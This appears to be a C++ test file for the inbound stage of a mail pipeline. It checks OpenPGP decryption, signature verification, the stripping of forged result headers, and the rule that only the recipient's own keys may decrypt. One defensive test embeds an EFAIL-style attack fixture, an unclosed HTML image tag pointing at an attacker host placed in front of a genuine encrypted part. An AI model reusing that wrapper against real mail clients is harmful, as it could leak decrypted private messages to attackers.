// Inbound: decryption and verification for local recipients, and what must not be decrypted.
#include "pipeline_test_support.hpp"

namespace sealpost::pipeline::testing {
namespace {

const std::string entity =
    "Content-Type: text/plain; charset=utf-8\r\n\r\nHello Bob, the code "
    "is 4711.\r\n";

std::string encrypted_part(const std::string& boundary, const std::string& ciphertext) {
    return "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\";\r\n"
           "\tboundary=\"" +
           boundary + "\"\r\n\r\n--" + boundary +
           "\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--" + boundary +
           "\r\nContent-Type: application/octet-stream\r\n\r\n" + ciphertext + "\r\n--" + boundary +
           "--\r\n";
}

class InboundTest : public PipelineTest {
protected:
    void SetUp() override {
        PipelineTest::SetUp();
        bob_ = generate("bob@example.org");
        learn(carol_);
        carol_.ring().import(keys_->export_public(bob_, false), false);
    }
    std::string ciphertext_to(const std::string& fpr) {
        carol_.ring().import(keys_->export_public(fpr, false), false);
        return openpgp::encrypt(carol_.ring(), entity, {fpr}, {carol_.fingerprint()});
    }
    std::string pgp_mime(const std::string& ciphertext, const std::string& extra = "") {
        return "From: <carol@remote.test>\r\nTo: <bob@example.org>\r\nSubject: hi\r\n" + extra +
               "MIME-Version: 1.0\r\n" + encrypted_part("enc-b", ciphertext);
    }
    Output only_for_bob(const Result& result) {
        auto mine = to(result, "bob@example.org");
        EXPECT_EQ(mine.size(), 1u);
        return mine.empty() ? Output{} : mine[0];
    }
    Correspondent carol_{"carol@remote.test"};
    std::string bob_;
};

TEST_F(InboundTest, DecryptsAndVerifiesForALocalRecipient) {
    auto raw = pgp_mime(ciphertext_to(bob_), "X-Sealpost-Signature: good; signer=FORGED\r\n");
    auto out = only_for_bob(receive("carol@remote.test", raw, {"bob@example.org"}));
    auto parsed = mime::parse(out.data);
    EXPECT_TRUE(contains(out.data, "the code is 4711"));
    EXPECT_EQ(parsed.header("X-Sealpost-Decrypted").value_or(""), "yes (key " + bob_ + ")");
    EXPECT_EQ(parsed.header("X-Sealpost-Signature").value_or(""),
              "good; signer=" + carol_.fingerprint());
    EXPECT_FALSE(contains(out.data, "FORGED"));
}

TEST_F(InboundTest, ForgedResultHeadersFromOutsideAreRemoved) {
    std::string raw =
        "From: <carol@remote.test>\r\nTo: <bob@example.org>\r\nSubject: hi\r\n"
        "X-Sealpost-Signature: good; signer=FORGED\r\n"
        "X-SEALPOST-Decrypted: yes\r\n\r\nplain text\r\n";
    auto out = only_for_bob(receive("carol@remote.test", raw, {"bob@example.org"}));
    EXPECT_FALSE(contains(out.data, "FORGED"));
    EXPECT_FALSE(mime::parse(out.data).header("X-Sealpost-Decrypted").has_value());
}

TEST_F(InboundTest, VerifiesAPgpMimeSignedMessage) {
    auto signature =
        openpgp::sign(carol_.ring(), entity, {carol_.fingerprint()}, openpgp::SignMode::Detached);
    std::string raw =
        "From: <carol@remote.test>\r\nTo: <bob@example.org>\r\nSubject: hi\r\n"
        "MIME-Version: 1.0\r\nContent-Type: multipart/signed; "
        "micalg=pgp-sha256;\r\n\tprotocol=\"application/pgp-signature\"; "
        "boundary=\"s\"\r\n\r\n--s\r\n" +
        entity +
        "\r\n--s\r\nContent-Type: "
        "application/pgp-signature\r\n\r\n" +
        signature + "\r\n--s--\r\n";
    auto out = only_for_bob(receive("carol@remote.test", raw, {"bob@example.org"}));
    EXPECT_EQ(mime::parse(out.data).header("X-Sealpost-Signature").value_or(""),
              "good; signer=" + carol_.fingerprint());
}

// EFAIL: attacker content around a genuine encrypted part must not be decrypted into.
TEST_F(InboundTest, EncryptedPartInsideAMixtureIsNotDecrypted) {
    std::string raw =
        "From: <mallory@remote.test>\r\nTo: <bob@example.org>\r\nSubject: re\r\n"
        "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"m\"\r\n"
        "\r\n--m\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/\r\n"
        "--m\r\n" +
        encrypted_part("enc-b", ciphertext_to(bob_)) + "--m--\r\n";
    auto out = only_for_bob(receive("mallory@remote.test", raw, {"bob@example.org"}));
    EXPECT_FALSE(contains(out.data, "4711"));
    EXPECT_TRUE(contains(out.data, "BEGIN PGP MESSAGE"));
    EXPECT_FALSE(
        contains(mime::parse(out.data).header("X-Sealpost-Decrypted").value_or(""), "yes"));
}

// A ciphertext intercepted on its way to alice, sent to bob, must not be opened with alice's
// key and delivered to bob.
TEST_F(InboundTest, OnlyTheRecipientsOwnKeysDecrypt) {
    auto alice = generate("alice@example.org");
    auto raw = pgp_mime(ciphertext_to(alice));
    auto out = only_for_bob(receive("carol@remote.test", raw, {"bob@example.org"}));
    EXPECT_FALSE(contains(out.data, "4711"));
    EXPECT_EQ(mime::parse(out.data).header("X-Sealpost-Decrypted").value_or(""),
              "no; reason=no-matching-secret-key");
}

TEST_F(InboundTest, LocalToLocalIsEncryptedThenDecryptedForTheRecipient) {
    generate("alice@example.org");
    auto result = submit(message("bob@example.org", "hi"), {"bob@example.org"});
    auto out = only_for_bob(result);
    auto parsed = mime::parse(out.data);
    EXPECT_TRUE(contains(out.data, "Secret plans"));
    EXPECT_TRUE(contains(parsed.header("X-Sealpost-Decrypted").value_or(""), "yes"));
    EXPECT_TRUE(contains(parsed.header("X-Sealpost-Signature").value_or(""), "good"));
}

TEST_F(InboundTest, MessageTheParserRefusesPassesThroughUnchanged) {
    std::string raw = "From: <carol@remote.test>\r\nTo: <bob@example.org>\r\n";
    for (int i = 0; i < 200; ++i) {
        raw += "Content-Type: multipart/mixed; boundary=\"b" + std::to_string(i) + "\"\r\n\r\n--b" +
               std::to_string(i) + "\r\n";
    }
    auto result = receive("carol@remote.test", raw, {"bob@example.org"});
    ASSERT_EQ(result.messages.size(), 1u);
    EXPECT_EQ(result.messages[0].data, raw);
}

}  // namespace
}  // namespace sealpost::pipeline::testing
